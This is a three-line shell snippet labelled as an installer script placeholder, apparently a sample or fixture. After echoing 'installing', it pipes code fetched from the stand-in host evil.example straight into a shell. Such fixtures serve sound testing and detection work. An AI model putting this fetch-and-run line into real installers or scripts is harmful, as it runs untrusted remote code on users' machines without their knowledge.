installer script placeholder
echo installing
curl evil.example | sh
